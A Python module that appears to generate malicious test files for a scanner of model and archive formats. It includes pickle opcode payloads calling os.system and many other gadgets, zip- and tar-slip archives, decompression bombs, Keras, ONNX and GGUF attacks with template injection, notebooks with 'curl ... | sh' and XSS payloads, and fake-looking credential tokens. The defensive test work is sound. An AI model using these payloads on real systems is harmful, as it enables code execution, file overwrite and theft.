"""Files that attack, generated as bytes. Nothing here or elsewhere ever loads one; what they would run is `echo CANARY`."""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal  # noqa: TID251 - made here, never read
import pickle  # noqa: TID251 - opcodes are written by hand; this gives their names
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

import lz4.frame
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from onnx import TensorProto, helper
from PIL import Image

Maker = Callable[[], bytes]

GADGETS = """os.system posix.system os.popen os.execv os.spawnl os.remove nt.system subprocess.Popen subprocess.call subprocess.run
subprocess.check_output subprocess.getoutput builtins.eval builtins.exec builtins.compile builtins.open builtins.__import__ builtins.getattr
__builtin__.eval __builtin__.execfile runpy.run_path runpy._run_code code.interact pty.spawn importlib.import_module imp.load_source
pkgutil.resolve_name webbrowser.open socket.socket socket.create_connection shutil.rmtree shutil.move ctypes.CDLL ctypes.cdll
timeit.timeit cProfile.run profile.run pdb.run bdb.Bdb.run trace.Trace.run doctest.testfile pip.main pip._internal.main
urllib.request.urlopen urllib.request.urlretrieve http.client.HTTPConnection requests.get ftplib.FTP smtplib.SMTP telnetlib.Telnet
asyncio.run asyncio.unix_events._UnixSubprocessTransport._start multiprocessing.Process pickle.loads _pickle.loads marshal.loads
shelve.open dill.loads joblib.load numpy.load numpy.f2py.crackfortran.getlincoef numpy.testing._private.utils.runstring torch.load
torch.hub.load torch.jit.load torch.utils.cpp_extension.load pandas.read_pickle pandas.eval operator.methodcaller operator.attrgetter
operator.itemgetter functools.partial functools.reduce types.FunctionType types.CodeType linecache.getline codecs.open io.open
io.FileIO logging.FileHandler logging.config.listen sqlite3.connect zipimport.zipimporter site.addsitedir sys.settrace sys.exit
threading.Thread tempfile.mktemp uuid._get_command_stdout aix_support._read_cmd_output _osx_support._read_output idlelib.run.Executive
lib2to3.pgen2.pgen.ParserGenerator distutils.spawn.spawn distutils.file_util.write_file setuptools.sandbox.run_setup ensurepip.bootstrap
venv.create fileinput.input gc.get_objects commands.getoutput pydoc.pipepager mmap.mmap fcntl.fcntl signal.alarm _xxsubinterpreters.create
cloudpickle.loads yaml.unsafe_load jinja2.Template.render sympy.sympify keras.models.load_model tensorflow.io.read_file nltk.data.load
transformers.AutoModel.from_pretrained sklearn.utils._testing._delete_folder scipy.io.loadmat""".split()


def _call(module: str, name: str) -> bytes:
    """A call of `module.name("echo CANARY")`, protocol 2."""
    argument = b"X" + struct.pack("<I", 11) + b"echo CANARY"
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\nq\x00" + argument + b"q\x01\x85q\x02Rq\x03."


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


SYSTEM = _call("os", "system")
TEXT = b"cos\nsystem\n(S'echo CANARY'\ntR."
STACK = (
    b"\x80\x04"
    + _short("posix")
    + b"\x94"
    + _short("system")
    + b"\x94\x93\x94"
    + _short("echo CANARY")
    + b"\x94\x85\x94R\x94."
)


def zipped(members: dict[str, bytes], *, comment: bytes = b"", kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind) as archive:
        archive.comment = comment
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def tarred(members: dict[str, bytes], *, mode: str = "w", link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
        if link:
            entry = tarfile.TarInfo("link")
            entry.type, entry.linkname = tarfile.SYMTYPE, link
            archive.addfile(entry)
    return out.getvalue()


def png() -> bytes:
    out = io.BytesIO()
    Image.fromarray(np.zeros((4, 4, 3), dtype=np.uint8)).save(out, "PNG")
    return out.getvalue()


def onnx_model(*, location: str = "", domain: str = "") -> bytes:
    weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    if location:
        weight.ClearField("float_data")
        weight.data_location = TensorProto.EXTERNAL
        weight.external_data.add(key="location", value=location)
    ends = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [2]) for name in "xy"]
    node = helper.make_node("Run" if domain else "Add", ["x", "w"], ["y"], domain=domain)
    graph = helper.make_graph([node], "g", ends[:1], ends[1:], [weight])
    return helper.make_model(graph).SerializeToString()


def gguf(
    *, tensors: int = 0, keys: list[tuple[str, bytes]] | None = None, tail: bytes = b"", keys_said: int | None = None
) -> bytes:
    listed = keys or []
    said = len(listed) if keys_said is None else keys_said
    body = b"".join(struct.pack("<Q", len(key)) + key.encode() + value for key, value in listed)
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, said) + body + tail


def gguf_text(text: str) -> bytes:
    return struct.pack("<IQ", 8, len(text.encode())) + text.encode()


def safetensors(header: bytes, data: bytes = b"", *, length: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header + data


def notebook(*cells: dict[str, object]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)}).encode()


def code_cell(source: str, **output: object) -> dict[str, object]:
    outputs = [{"output_type": "display_data", "data": output["data"], "metadata": {}}] if output else []
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": outputs, "execution_count": 1}


def keras(layer: dict[str, object]) -> bytes:
    return json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}, "keras_version": "3.0"}).encode()


def objects() -> bytes:
    out = io.BytesIO()
    np.save(out, np.array([{"a": 1}, None], dtype=object), allow_pickle=True)
    return out.getvalue()


def arrow_type() -> bytes:
    out = io.BytesIO()
    pq.write_table(
        pa.table({"a": [1]}).replace_schema_metadata({b"ARROW:extension:name": b"arrow.py_extension_type"}), out
    )
    return out.getvalue()


def mismatched() -> bytes:
    """The member is called one thing in its own header and another in the table at the end."""
    return zipped({"data.pkl": SYSTEM}, kind=zipfile.ZIP_STORED).replace(b"data.pkl", b"data.txt", 1)


def flagged_encrypted() -> bytes:
    whole = bytearray(zipped({"data.pkl": SYSTEM}, kind=zipfile.ZIP_STORED))
    whole[6] |= 1
    at = whole.index(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)


def wrong_checksum() -> bytes:
    whole = bytearray(zipped({"data.pkl": SYSTEM}, kind=zipfile.ZIP_STORED))
    whole[14] ^= 0xFF
    at = whole.index(b"PK\x01\x02")
    whole[at + 16] ^= 0xFF
    return bytes(whole)


def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", b"text")
        archive.writestr("b.txt", SYSTEM)
    return out.getvalue().replace(b"b.txt", b"a.txt")


def deep(count: int) -> bytes:
    data = SYSTEM
    for _ in range(count):
        data = zipped({"inner": data})
    return data


def _opcodes() -> Iterator[tuple[str, bytes]]:
    yield "protocol 0", TEXT
    yield "protocol 2", SYSTEM
    yield "protocol 4", STACK
    yield "protocol 0, INST", b"(S'echo CANARY'\nios\nsystem\n."
    yield "OBJ", b"\x80\x02(cos\nsystem\nX\x0b\x00\x00\x00echo CANARYo."
    yield "OBJ and POP", b"\x80\x02(cos\nsystem\nX\x0b\x00\x00\x00echo CANARYo0N."
    yield "NEWOBJ", b"\x80\x02cos\nsystem\nX\x0b\x00\x00\x00echo CANARY\x85\x81."
    yield "BUILD", b"\x80\x02c__main__\nA\n)\x81}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsbX\x04\x00\x00\x00echob."
    yield (
        "names from the memo",
        b"\x80\x04" + _short("posix") + b"\x940" + _short("system") + b"\x940h\x00h\x01\x93" + _short("id") + b"\x85R.",
    )
    yield (
        "names swapped by DUP",
        b"\x80\x04" + _short("os") + b"20" + _short("system") + b"\x93" + _short("id") + b"\x85R.",
    )
    yield "a name that is computed", b"\x80\x04cbuiltins\nchr\nK\x6f\x85R" + _short("system") + b"\x93)R."
    yield "a dotted walk", b"\x80\x04" + _short("collections") + _short("sys.modules") + b"\x93."
    yield "a walk to globals", b"\x80\x04" + _short("random") + _short("Random.__init__.__globals__") + b"\x93."
    yield "a frame longer than the file", b"\x80\x04\x95\xff\xff\x00\x00\x00\x00\x00\x00" + STACK[2:]
    yield "a frame of nothing", b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00" + STACK[2:]
    yield "persistent id", b"\x80\x02X\x04\x00\x00\x00nameQ."
    yield "persistent id, protocol 0", b"Pname\n."
    yield "extension code", b"\x80\x02\x82\x01)R."
    yield "extension code of four bytes", b"\x80\x02\x84\x01\x00\x00\x00)R."
    yield "buffers from outside", b"\x80\x05\x97."
    yield "cut off behind the call", SYSTEM[:-1]
    yield "cut off in the argument", SYSTEM[:20]
    yield "an unknown opcode behind the call", SYSTEM[:-1] + b"\xff."
    yield "two pickles", b"\x80\x02N." + SYSTEM
    yield "a pickle behind numbers", b"\x80\x02K\x01." + bytes(range(200, 256)) + SYSTEM
    yield "a pickle behind a text pickle", b"(lp0\n." + SYSTEM
    yield "nothing but a call of a class", b"\x80\x02cbuiltins\nprint\n)R."
    yield "harmless", b"\x80\x04}\x94."
    yield "a list of numbers", pickle.dumps([1, 2, 3])
    yield "a long one", b"\x80\x02" + b"N0" * 200_000 + SYSTEM[2:]
    yield "wide names", b"\x80\x04X" + struct.pack("<I", 2) + b"osX" + struct.pack("<I", 6) + b"system\x93)R."
    yield (
        "eight byte names",
        b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93)R.",
    )
    yield "byte strings as names", b"\x80\x02U\x02osU\x06system\x93)R."
    yield "unicode line names", b"Vos\nVsystem\n\x93)R."
    yield "in a comment of a text", b"# weights\n" + TEXT
    yield "in a table", b"a,b\n1,2\n" + TEXT + b"\n3,4\n"


def _wrapped() -> Iterator[tuple[str, bytes]]:
    for name, data in (("binary", SYSTEM), ("text", TEXT), ("stack", STACK)):
        yield f"gzip of {name}", gzip.compress(data)
        yield f"bzip2 of {name}", bz2.compress(data)
        yield f"xz of {name}", lzma.compress(data)
        yield f"lzma of {name}", lzma.compress(data, format=lzma.FORMAT_ALONE)
        yield f"zlib of {name}", zlib.compress(data)
        yield f"stored zlib of {name}", zlib.compress(data, 0)
        yield f"lz4 of {name}", lz4.frame.compress(data)
        yield f"zip of {name}", zipped({"archive/data.pkl": data, "archive/version": b"3\n"})
        yield f"zip with a neutral name of {name}", zipped({"notes.txt": data})
        yield f"zip in zip of {name}", zipped({"a.npy": b"x", "b.zip": zipped({"c": data})})
        yield f"tar of {name}", tarred({"x": data})
        yield f"tar.gz of {name}", tarred({"x": data}, mode="w:gz")
        yield f"tar.bz2 of {name}", tarred({"x": data}, mode="w:bz2")
    yield "gzip of gzip", gzip.compress(gzip.compress(SYSTEM))
    yield "zip of gzip of tar", zipped({"x": tarred({"y": SYSTEM}, mode="w:gz")})
    yield "six zips deep", deep(6)
    yield "mismatched names", mismatched()
    yield "said to be encrypted", flagged_encrypted()
    yield "wrong checksum", wrong_checksum()
    yield "two members of a name", twice()
    yield "prefixed zip", b"prefix" + zipped({"a.pkl": SYSTEM})
    yield "zip with a comment", zipped({"a.txt": b"text"}, comment=SYSTEM)
    yield "zip with a tail", zipped({"a.txt": b"text"}) + SYSTEM
    yield "zip behind a picture", png() + zipped({"a.pkl": SYSTEM})
    yield "zip in a chunk of a picture", _in_chunk(zipped({"a.pkl": SYSTEM}))
    yield "pickle behind a picture", png() + SYSTEM
    yield "zip behind text", b"# Model\n" + zipped({"a.pkl": SYSTEM}, kind=zipfile.ZIP_STORED)
    yield "zip slip", zipped({"../../etc/cron.d/x": b"* * * * * root id\n"})
    yield "absolute path in zip", zipped({"/etc/passwd": b"x"})
    yield "windows path in zip", zipped({"C:\\Windows\\x.dll": b"x"})
    yield "tar slip", tarred({"../../x": b"x"})
    yield "link out of tar", tarred({"a": b"x"}, link="/etc/passwd")
    yield "link in tar", tarred({"a": b"x"}, link="a")
    yield "7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + SYSTEM
    yield "rar", b"Rar!\x1a\x07\x01\x00" + SYSTEM
    yield "zstd", b"\x28\xb5\x2f\xfd\x04" + SYSTEM
    yield "cut gzip", gzip.compress(SYSTEM)[:-9]
    yield "cut zip", zipped({"a.pkl": SYSTEM})[:-30]
    yield "gzip bomb", gzip.compress(b"\0" * 80 * 1024**2)
    yield "bomb of bombs", bz2.compress(bz2.compress(b"\0" * 200 * 1024**2))
    yield "zip of too many", zipped({str(number): b"" for number in range(20_001)}, kind=zipfile.ZIP_STORED)


def _in_chunk(data: bytes) -> bytes:
    chunk = struct.pack(">I4s", len(data), b"zzZz") + data + struct.pack(">I", zlib.crc32(b"zzZz" + data))
    whole = png()
    return whole[:-12] + chunk + whole[-12:]


def _models() -> Iterator[tuple[str, bytes]]:
    for location in ("../../etc/passwd", "/etc/passwd", "C:\\x", "..\\x", "weights.bin", "a/../../b", "//host/share"):
        yield f"onnx with data in {location}", onnx_model(location=location)
    for domain in ("com.evil", "ai.onnx.contrib", "org.pytorch.aten", "python.ops"):
        yield f"onnx with operators of {domain}", onnx_model(domain=domain)
    yield "cut onnx", onnx_model()[:-3]
    yield (
        "keras lambda",
        keras(
            {"class_name": "Lambda", "config": {"function": [base64.b64encode(marshal.dumps(1)).decode(), None, None]}}
        ),
    )
    yield (
        "keras lambda of Keras 3",
        keras(
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wAA"}}},
            }
        ),
    )
    yield (
        "keras module os",
        keras({"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}),
    )
    yield "keras module builtins", keras({"module": "builtins", "class_name": "function", "config": "eval"})
    yield "keras module of others", keras({"module": "my_package.layers", "class_name": "Thing", "config": {}})
    yield (
        "keras custom object",
        keras({"module": "keras.layers", "class_name": "A", "config": {}, "registered_name": "evil>A"}),
    )
    yield (
        "keras file",
        zipped(
            {
                "config.json": keras({"class_name": "Lambda", "config": {}}),
                "metadata.json": b"{}",
                "model.weights.h5": b"\x89HDF\r\n\x1a\n",
            }
        ),
    )
    yield "keras savedmodel layer", keras({"class_name": "TFSMLayer", "config": {"filepath": "/tmp/x"}})
    yield "hdf5 with a lambda", b"\x89HDF\r\n\x1a\n\0\0" + keras({"class_name": "Lambda", "config": {}})
    yield "hdf5", b"\x89HDF\r\n\x1a\n" + bytes(200)
    yield "saved model that writes files", b"\x08\x01\x12\x03\x0a\x0bsaved_model\xff\x00WriteFile\x00serving_default"
    yield "saved model with python", b"\xff\x00serving_default\x00PyFunc\x00\xfe"
    yield "gguf without its tensors", gguf(tensors=5)
    yield "gguf with a huge count", gguf(tensors=2**60)
    yield "gguf with a huge count of keys", gguf(keys_said=2**61)
    yield "gguf with a long name", gguf(keys_said=1, tail=struct.pack("<Q", 2**63) + b"x")
    yield "gguf with a long array", gguf(keys=[("a", struct.pack("<IIQ", 9, 0, 2**62))])
    yield "gguf with nested arrays", gguf(keys=[("a", struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 12)])
    yield "gguf with an unknown type", gguf(keys=[("a", struct.pack("<I", 77))])
    yield "gguf with a tail", gguf(keys=[("a", gguf_text("b"))]) + SYSTEM + bytes(200)
    yield "gguf of a strange version", b"GGUF" + struct.pack("<IQQ", 99, 0, 0)
    for attack in (
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id') }}",
        "{% import os %}",
        "{{ lipsum.__globals__ }}",
    ):
        yield f"gguf with the template {attack}", gguf(keys=[("tokenizer.chat_template", gguf_text(attack))])
    yield (
        "gguf with an offset behind the end",
        gguf(tensors=1, tail=struct.pack("<Q", 1) + b"w" + struct.pack("<IQIQ", 1, 4, 0, 2**40)),
    )
    for name, header, data in (
        ("a hole", b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}', bytes(8)),
        (
            "an overlap",
            b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[2,6]}}',
            bytes(6),
        ),
        ("a tail", b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', bytes(4) + SYSTEM),
        (
            "a name twice",
            b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
            b"x",
        ),
        ("a wrong shape", b'{"a":{"dtype":"F32","shape":[9],"data_offsets":[0,4]}}', bytes(4)),
        ("a negative shape", b'{"a":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}}', bytes(4)),
        ("an overflow", b'{"a":{"dtype":"F32","shape":[4611686018427387904,4],"data_offsets":[0,0]}}', b""),
        ("a strange type", b'{"a":{"dtype":"OBJ","shape":[1],"data_offsets":[0,4]}}', bytes(4)),
        ("depth", b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}", b""),
    ):
        yield f"safetensors with {name}", safetensors(header, data)
    yield "safetensors with a long header", safetensors(b"{}", b"x" * 20, length=15)
    yield "object array", objects()
    yield "object array in npz", zipped({"a.npy": objects()})
    yield "parquet with a pickled type", arrow_type()
    yield "python byte code", b"\xa7\r\r\n" + bytes(12) + marshal.dumps(1)


def _documents() -> Iterator[tuple[str, bytes]]:
    yield "notebook", notebook(code_cell("import os; os.system('echo CANARY')"))
    yield "notebook that fetches", notebook(code_cell("!curl http://x/a.sh | sh"))
    yield (
        "notebook with a script in its output",
        notebook(code_cell("1", data={"text/html": ["<script>alert(1)</script>"]})),
    )
    yield "notebook with javascript", notebook(code_cell("1", data={"application/javascript": "alert(1)"}))
    yield (
        "notebook with a script in its text",
        notebook({"cell_type": "markdown", "source": "<img src=x onerror=alert(1)>", "metadata": {}}),
    )
    yield "broken notebook", notebook(code_cell("1"))[:-2] + b" "
    for name, inside in (
        ("script", "<script>alert(1)</script>"),
        ("handler", '<rect onclick="alert(1)"/>'),
        ("address", '<a href="javascript:alert(1)"><text>x</text></a>'),
        ("foreign", "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>"),
        ("remote", '<image href="https://tracker.invalid/x.png"/>'),
        ("animate", '<animate attributeName="href" values="javascript:alert(1)"/>'),
    ):
        yield f"svg with {name}", f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()
    yield (
        "svg with entities",
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    )
    yield "html", b"<!doctype html><html><script>fetch('//x')</script></html>"
    yield "html without a script", b"<html><body>hello</body></html>"
    yield "elf", b"\x7fELF" + bytes(100)
    yield "windows program", b"MZ\x90\x00" + bytes(100)
    yield "java class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34"
    yield "web assembly", b"\x00asm\x01\x00\x00\x00"
    yield "shell script", b"#!/bin/sh\necho CANARY\n"
    yield "python", b"import os\n\n\ndef setup():\n    os.system('echo CANARY')\n"
    yield "python that unwraps", b"import base64\nimport os\nexec(base64.b64decode('cGFzcw=='))\n"
    yield "eicar", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
    yield "text with a nul", b"text with a \x00 byte"
    yield "latin-1", b"caf\xe9"
    yield "noise", bytes((n * 167 + 13) % 256 for n in range(4096))


SECRETS = {
    "private key": "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEow\n",
    "aws": "key = AKIA" + "Z7QK3WMLB2XRPT5N",
    "aws secret": "aws_secret_access_key = " + "wJalrXUtnFEMIK7MDENGbPxRfiCYzzTESTKEYab1",
    "github": "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "github fine": "github_pat_" + "11ABCDEFG0abcdefghij_" + "K1L2m3N4o5P6q7R8s9T0u1V2w3X4y5Z6a7B8c9D0e1",
    "gitlab": "glpat-" + "x1Y2z3A4b5C6d7E8f9G0",
    "hugging face": "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz12345678",
    "slack": "xoxb-" + "123456789012-abcdefABCDEF",
    "slack hook": "https://hooks.slack.com/services/" + "T0ABCDEF1/B0ABCDEF2/abcdefghijklmnopqrstuvwx",
    "discord": "https://discord.com/api/webhooks/" + "123456789012345678/" + "aB3dE6gH9jK2mN5pQ8sT" * 4,
    "google": "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q",
    "stripe": "sk_live_" + "a1B2c3D4e5F6g7H8i9J0k1L2",
    "openai": "sk-" + "a1B2c3D4e5F6g7H8i9J0" + "T3BlbkFJ" + "k1L2m3N4o5P6q7R8s9T0",
    "npm": "npm_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "pypi": "pypi-AgE" + "IcHlwaS5vcmcCJDU2" * 5,
    "sendgrid": "SG." + "a1B2c3D4e5F6g7H8i9J0k1" + "." + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9T0u1V",
    "twilio": "SK" + "0123456789abcdef0123456789abcdef",
    "digitalocean": "dop_v1_" + "0123456789abcdef" * 4,
    "azure": "AccountKey=" + "a1B2c3D4e5F6g7H8" * 5 + "abcdef==",
    "telegram": "123456789:AA" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q",
    "databricks": "dapi" + "0123456789abcdef0123456789abcdef",
    "database": "postgres://admin:" + "hunter2hunter2@db.example.com/x",
    "own": "mto_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9",
}


def cases() -> dict[str, Maker]:
    """Every case by name; the bytes are made when they are asked for."""
    found: dict[str, Maker] = {}
    for gadget in GADGETS:
        module, _, name = gadget.rpartition(".")
        found[f"call of {gadget}"] = lambda module=module, name=name: _call(module, name)
    for prefix, group in (("opcodes", _opcodes), ("wrapped", _wrapped), ("model", _models), ("document", _documents)):
        for name, data in group():
            found[f"{prefix}: {name}"] = lambda data=data: data
    for name, text in SECRETS.items():
        found[f"secret: {name}"] = lambda text=text: f"# settings\n{text}\n".encode()
    return found
